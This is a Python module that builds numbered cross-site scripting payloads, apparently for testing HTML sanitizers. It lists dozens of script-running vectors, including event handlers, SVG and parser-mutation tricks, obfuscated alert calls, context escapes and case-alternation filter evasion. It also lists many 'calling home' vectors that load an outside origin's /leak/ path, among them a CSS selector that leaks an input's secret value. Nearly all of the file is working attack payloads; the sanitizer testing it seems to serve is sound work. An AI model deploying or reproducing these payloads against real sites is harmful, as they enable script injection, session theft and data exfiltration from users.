"""Hostile markup made in code: what runs script and what calls home in a browser that is let.

Each script calls one of alert, prompt and confirm with its own number, each loading vector asks
for a path with its own number, so that a test can say which of them did.
"""

import itertools
from collections.abc import Iterator

# {call} is the JavaScript; _ is where white space may be of another kind.
_RUNNING = (
    "<script>{call}</script>",
    "<script_x>{call}</script_>",
    "<svg><script>{call}</script></svg>",
    "<img_src=x_onerror={call}>",
    "<img_src=x_alt=`_`_onerror={call}>",
    "<svg_onload={call}>",
    "<svg><g_onload={call}></g></svg>",
    "<svg><animate_onbegin={call}_attributeName=x_dur=1s>",
    "<svg><set_onbegin={call}_attributeName=x>",
    "<audio_src=x_onerror={call}>",
    "<video_src=x_onerror={call}></video>",
    "<video><source_src=x_onerror={call}></video>",
    "<details_open_ontoggle={call}>x</details>",
    "<input_autofocus_onfocus={call}>",
    "<textarea_autofocus_onfocus={call}></textarea>",
    "<a_href=https://x.example_autofocus_tabindex=1_onfocus={call}>x</a>",
    "<body_onload={call}>",
    "<iframe_src=javascript:{call}></iframe>",
    "<iframe_onload={call}></iframe>",
    "<object_data=javascript:1_onerror={call}></object>",
    "<embed_src=x:x_onerror={call}><img_src=x_onerror={call}>",
    "<style>@keyframes k{{}}</style><p_style=animation-name:k_onanimationstart={call}>x",
    "<style_onload={call}></style>",
    "<link_rel=stylesheet_href=data:text/css,_onload={call}>",
    "<marquee_onstart={call}>x</marquee>",
    '<math><mtext><table><mglyph><style><!--</style><img_title="--&gt;x"><img_src=x_onerror={call}>',
    "<form><math><mtext></form><form><mglyph><style></math><img_src_onerror={call}>",
    "<svg></p><style><a_id=\"</style><img_src=1_onerror={call}>\">",
    "<noscript><p_title=\"</noscript><img_src=x_onerror={call}>\"><img_src=x_onerror={call}>",
    "<template><i></i></template><img_src=x_onerror={call}>",
    "<scr<script>ipt></script><img_src=x_onerror={call}>",
    "<img_src=\"x\"\"onerror={call}>",
    "<x_contenteditable_autofocus_tabindex=1_onfocus={call}>x</x>",
    "<select_autofocus_onfocus={call}></select>",
)  # fmt: skip
# What the payload has to get out of first, when it lands in another place of a page.
_ESCAPES = (
    "",
    '">',
    "'>",
    "--!>",
    "</title></textarea></style></script></xmp></noscript>",
    "]]>",
    "</p></div></a>",
    "{{{{7*7}}}}${{7*7}}<%=7*7%>",
)
_SPACES = (" ", "/", "\t", "\n", "\f", "/ /")
_CALLS = (
    "alert({number})",
    "prompt({number})",
    "confirm({number})",
    "alert`{number}`",
    "&#97;lert({number})",
    "top['al'+'ert']({number})",
    "eval('\\x61lert({number})')",
    "[{number}].map(alert)",
    "setTimeout('alert({number})')",
)
_HOME = (
    '<img src="{to}">',
    "<img src={to}>",
    '<img srcset="{to} 1x, {to}2 2x">',
    '<img src="data:," srcset="{to}">',
    '<picture><source srcset="{to}"><img src="data:,"></picture>',
    '<image src="{to}">',
    '<input type=image src="{to}">',
    '<body background="{to}">',
    '<table background="{to}"><tr><td>x</table>',
    '<table><tr><td background="{to}">x</table>',
    '<video poster="{to}"></video>',
    '<video src="{to}" autoplay muted preload=auto></video>',
    '<video preload=auto><source src="{to}"></video>',
    '<audio src="{to}" preload=auto></audio>',
    '<video src="{to}"><track kind=subtitles default src="{to}t"></video>',
    '<link rel=stylesheet href="{to}">',
    '<link rel="icon" href="{to}"><img src="{to}i">',
    '<link rel=preload as=image href="{to}">',
    '<link rel=prefetch href="{to}">',
    '<link rel=modulepreload href="{to}">',
    '<link rel="stylesheet alternate" href="{to}">',
    '<script src="{to}"></script>',
    '<iframe src="{to}"></iframe>',
    '<iframe srcdoc="&lt;img src={to}&gt;"></iframe>',
    '<frameset><frame src="{to}"></frameset><img src="{to}f">',
    '<object data="{to}"></object>',
    '<object type="text/html" data="{to}"></object>',
    '<embed src="{to}">',
    '<embed type="image/svg+xml" src="{to}">',
    '<svg><image href="{to}" width=9 height=9></svg>',
    '<svg><image xlink:href="{to}" width=9 height=9></svg>',
    '<svg><filter id=f><feImage href="{to}"/></filter><rect width=9 height=9 filter=url(#f)></svg>',
    '<svg><script href="{to}"></script></svg>',
    '<svg><style>@import "{to}";</style></svg>',
    '<svg><foreignObject><img src="{to}"></foreignObject></svg>',
    '<meta http-equiv=refresh content="0;url={to}">',
    '<base href="{to}/"><img src="x">',
    "<style>@import '{to}';</style>",
    "<style>@import url({to});</style>",
    "<style>body{{background:url({to})}}</style>",
    "<style>*{{background:url('{to}')}}</style>",
    "<style>p:after{{content:url({to})}}</style><p>x",
    "<style>@font-face{{font-family:f;src:url({to})}}p{{font-family:f}}</style><p>x",
    "<style>li{{list-style-image:url({to})}}</style><ul><li>x</ul>",
    "<style>@media all{{p{{background:url({to})}}}}</style><p>x",
    "<style>@supports (display:block){{p{{background:url({to})}}}}</style><p>x",
    '<style>input[value^="s"]{{background:url({to})}}</style><input value=secret>',
    '<style>p:first-line{{background:url({to})}}</style><p>x',
    '<style>p{{--x:url({to});background:var(--x)}}</style><p>x',
    '<p style="background:url({to})">x',
    '<p style="background:url(\'{to}\')">x',
    '<p style="background:u\\72l({to})">x',
    '<p style="background:URL( {to} )">x',
    '<p style="BACKGROUND-IMAGE:url({to})">x',
    '<p style="background:/**/url({to})">x',
    '<p style="background:image-set(\'{to}\' 1x)">x',
    '<p style="background:-webkit-image-set(url({to}) 1x)">x',
    '<p style="background:-webkit-cross-fade(url({to}),url({to}b),50%)">x',
    '<p style="border-image:url({to}) 1;border-width:9px;border-style:solid">x',
    '<p style="border-image-source:url({to});border-style:solid;border-width:1px">x',
    '<p style="mask:url({to})">x',
    '<p style="-webkit-mask-image:url({to})">x',
    '<p style="filter:url({to}#f)">x',
    '<p style="clip-path:url({to}#f)">x',
    '<p style="shape-outside:url({to});float:left">x',
    '<p style="cursor:url({to}),auto">x<img src="{to}c">',
    '<ul><li style="list-style:url({to})">x</ul>',
    '<p style="--x:url({to});background:var(--x)">x',
    '<q style="content:url({to})">x</q>',
    '<table><tr style="background:url({to})"><td>x</table>',
)  # fmt: skip


def running(number: int | None = None) -> Iterator[tuple[int, str]]:
    """Numbered payloads that run script where nothing stops them: each way of running with each
    way out, white space and call taken in turn; `number` of them, or all."""
    spaces, calls = itertools.cycle(_SPACES), itertools.cycle(_CALLS)
    shapes = itertools.product(_ESCAPES, _RUNNING, (False, True))
    for here, (escape, shape, loud) in enumerate(itertools.islice(shapes, number), start=1):
        space, call = next(spaces), next(calls)
        if "script>" in shape and "&#" in call:
            call = _CALLS[0]
        name = escape + shape.replace("_", space if "=x/" not in shape else " ")
        written = name.format(call=call.format(number=here))
        yield here, _loud(written) if loud else written


def calling_home(origin: str) -> Iterator[tuple[int, str]]:
    """Numbered payloads that load `origin`/leak/<number> where nothing stops them, the address
    written in several ways."""
    plain = origin.removeprefix("http:")
    ways = (origin, plain, plain.replace("/", "\\"), f"HTTP:{plain}")
    for number, (shape, way) in enumerate(itertools.product(_HOME, ways), start=1):
        tail = "\\leak\\" if "\\" in way else "/leak/"
        yield number, shape.format(to=f"{way}{tail}{number}")


def _loud(markup: str) -> str:
    """Names of tags and handlers in alternating case: <ScRiPt>."""
    out: list[str] = []
    inside = False
    for place, char in enumerate(markup):
        inside = (inside or char == "<") and char not in "= \t\n\f/>"
        out.append(char.upper() if inside and place % 2 else char)
    return "".join(out)
